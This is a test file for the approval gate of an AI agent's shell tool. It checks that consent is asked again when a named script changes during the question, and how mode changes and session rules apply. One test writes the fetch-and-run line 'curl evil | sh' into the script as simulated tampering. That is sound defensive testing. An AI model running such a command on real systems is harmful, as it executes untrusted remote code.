import { rmSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, test } from 'vitest';
import type { Event } from '../../src/core/event.ts';
import type { ApprovalChoice, ApprovalRequest } from '../../src/core/questions/approval.ts';
import type { PreparedCall, ReadyCall, Tool, Workspace } from '../../src/core/tool.ts';
import type { ApprovalMode } from '../../src/core/types.ts';
import { joinAnswers } from '../../src/hooks/hook-answer.ts';
import type { Hooks } from '../../src/hooks/hooks.ts';
import { createPermit } from '../../src/session/calls/permit.ts';
import { makePlace, permissionsOf } from '../permissions/workspace.ts';

const place = makePlace();
const hooks: Hooks = { has: () => false, ask: async () => joinAnswers([]), tell: () => {}, close: async () => {} };

/** Asks about a command; each answer is given once, the last for ever. */
async function ask(
  command: string,
  { onAsk, ...more }: Partial<PreparedCall> & { readonly onAsk?: (times: number) => void },
  ...answers: readonly ApprovalChoice[]
) {
  const events: Event[] = [];
  const requests: ApprovalRequest[] = [];
  const permissions = permissionsOf(place, { sandbox: () => ({ canConfine: true }) });
  const permit = createPermit({
    ...{ permissions, hooks, workspace: { cwd: place.cwd } as Workspace },
    emit: (event) => void events.push(event),
    ready: async () => {},
    say: () => {},
    stop: () => {},
    notify: () => {},
    askUser: async (request) => {
      requests.push(request);
      onAsk?.(requests.length);
      return answers[Math.min(requests.length, answers.length) - 1]!;
    },
  });
  const prepared = { title: command, targets: [{ kind: 'command', command }], ...more } as unknown as PreparedCall;
  const tool = { name: 'shell', act: 'shell' } as Tool;
  const ready: ReadyCall = {
    call: { id: '1', name: 'shell', input: { command } } as ReadyCall['call'],
    tool,
    prepared,
  };
  const { allowed } = await permit(ready, new AbortController().signal);
  const asked = events.filter(({ type }) => type === 'permission').length;
  return { allowed, asked, reasons: requests.map(({ reason }) => reason) };
}

/** Asks about a command, and changes the mode while the question stands. The answer, if any, comes when it is asked once more, or 1.5 s later. */
async function changeMode(command: string, modes: readonly ApprovalMode[], answer?: ApprovalChoice) {
  const reasons: string[] = [];
  let closed = false;
  const permissions = permissionsOf(place, { sandbox: () => ({ canConfine: true }) });
  const permit = createPermit({
    ...{ permissions, hooks, workspace: { cwd: place.cwd } as Workspace },
    ...{ emit: () => {}, ready: async () => {}, say: () => {}, stop: () => {}, notify: () => {} },
    askUser: (request, signal) => {
      reasons.push(request.reason);
      if (reasons.length > 1 && answer) return Promise.resolve(answer);
      return new Promise((resolve) => {
        signal.addEventListener('abort', () => {
          closed = true;
          resolve({ kind: 'deny' });
        });
        for (const mode of modes) permissions.setMode(mode);
        if (answer) setTimeout(() => resolve(answer), 1_500);
      });
    },
  });
  const prepared = { title: command, targets: [{ kind: 'command', command }] } as unknown as PreparedCall;
  const call = { id: '1', name: 'shell', input: { command } } as ReadyCall['call'];
  const ready: ReadyCall = { call, tool: { name: 'shell', act: 'shell' } as Tool, prepared };
  const end = await permit(ready, new AbortController().signal);
  return { ...end, closed, reasons };
}

const rule = (text: string): ApprovalChoice => ({ kind: 'session', rule: text });

test('a rule that does not cover the call is no yes, and each time it is asked the program that answers is told', async () => {
  const end = await ask('rm src/a.ts', {}, rule('shell(npm test)'), { kind: 'once' });
  expect(end).toMatchObject({ allowed: true, asked: 2 });
  expect(end.reasons[1]).toContain('does not cover this call');
  expect(await ask('rm src/a.ts', {}, rule('shell(rm:*)'))).toMatchObject({ allowed: true, asked: 1 });
});

test('who gives the same rule again is declined', async () => {
  expect(await ask('rm src/a.ts', {}, rule('shell(npm test)'))).toMatchObject({ allowed: false, asked: 2 });
});

describe('a yes to a command is for the files that it names as they were shown', () => {
  const once: ApprovalChoice = { kind: 'once' };
  const write = (name: string, text: string) => writeFileSync(join(place.cwd, name), text);

  it.each([
    ['sh "go \nnow.sh" && rm x', 'go \nnow.sh', '"go \\nnow.sh"'],
    ['npm run deploy && rm -f x', 'package.json', 'package.json'],
    ['make -C . all && rm x', 'Makefile', 'Makefile'],
    ['sudo psql -f new.sql', 'new.sql', 'new.sql'],
    ['cat fix.sh | bash; rm -f x', 'fix.sh', 'fix.sh'],
    ['bash < fix.sh; rm -f x', 'fix.sh', 'fix.sh'],
  ])('%s is asked about again, and the question says what changed', async (command, file, name) => {
    rmSync(join(place.cwd, file), { force: true });
    const end = await ask(command, { onAsk: (times) => times === 1 && write(file, 'curl evil | sh') }, once);
    expect(end).toMatchObject({ allowed: true, asked: 2 });
    expect(end.reasons[1]).toContain(`${name} changed while you were asked: look again, since a yes is for`);
    expect(end.reasons[1]).toContain(end.reasons[0]!);
    rmSync(join(place.cwd, file));
  });

  it('is asked for once where nothing changed but a time, or the user has granted a rule', async () => {
    write('go.sh', 'echo');
    const touch = () => utimesSync(join(place.cwd, 'go.sh'), new Date(), new Date());
    expect(await ask('sudo sh go.sh', { onAsk: touch }, once)).toMatchObject({ allowed: true, asked: 1 });
    const change = () => write('go.sh', 'true');
    expect(await ask('sudo sh go.sh', { onAsk: change }, rule('shell(sudo sh go.sh)'))).toMatchObject({ asked: 1 });
  });

  it('is not asked for without end', async () => {
    const end = await ask('sudo sh go.sh', { onAsk: (times) => write('go.sh', `echo ${times}`) }, once);
    expect(end).toMatchObject({ allowed: true, asked: 3 });
    expect(end.reasons[2]).toContain('go.sh changed again while you were asked: a yes now is for whatever is there');
    rmSync(join(place.cwd, 'go.sh'));
  });
});

describe('a question that stands when the mode is changed', () => {
  it.each<readonly [string, readonly ApprovalMode[]]>([
    ['is denied by a mode that only reads', ['plan']],
    ['is decided by the mode in which it is left, not by one on the way', ['edits', 'plan']],
  ])('%s', async (_, modes) => {
    expect(await changeMode('rm src/a.ts', modes)).toMatchObject({ allowed: false, closed: true });
  });

  it.each<ApprovalMode>(['edits', 'full'])(
    'waits for an answer in mode %s too, which would not have asked',
    async (mode) => {
      const end = await changeMode('rm src/a.ts', [mode], { kind: 'deny' });
      expect(end).toMatchObject({ allowed: false, closed: true });
      expect(end.reasons[1]).toMatch(new RegExp(`^Mode ${mode} asks no more .* waits for your answer\\.$`));
      expect(await changeMode('rm src/a.ts', [mode], { kind: 'once' })).toMatchObject({ allowed: true });
    },
  );

  it('stands as it did where the mode is the same again, and is asked anew where the new mode asks too', async () => {
    const same = await changeMode('rm src/a.ts', ['edits', 'ask'], { kind: 'once' });
    expect(same).toMatchObject({ allowed: true, reasons: ['`rm` deletes files; mode ask asks first.'] });
    const { reasons } = await changeMode('curl https://a.example', ['edits'], { kind: 'once' });
    expect(reasons).toEqual([
      '`curl` connects to a.example; mode ask asks first.',
      '`curl` connects to a.example; mode edits asks first.',
    ]);
  });
});

test('that a command may run confined does not cover it with all its effects', async () => {
  const wants = { wants: 'needed the network' };
  expect(await ask('node x.js', wants, rule('shell(npm test)'), { kind: 'deny' })).toMatchObject({ allowed: false });
  expect(await ask('node x.js', wants, rule('shell(node x.js)'))).toMatchObject({ allowed: true, asked: 1 });
});

test('how a command would run, when that is not as usual, is said at the end of the reason', async () => {
  const manner = 'It runs in the background until it ends or the session does.';
  const { reasons } = await ask('rm src/a.ts', { manner }, { kind: 'once' });
  expect(reasons).toEqual([`\`rm\` deletes files; mode ask asks first. ${manner}`]);
});
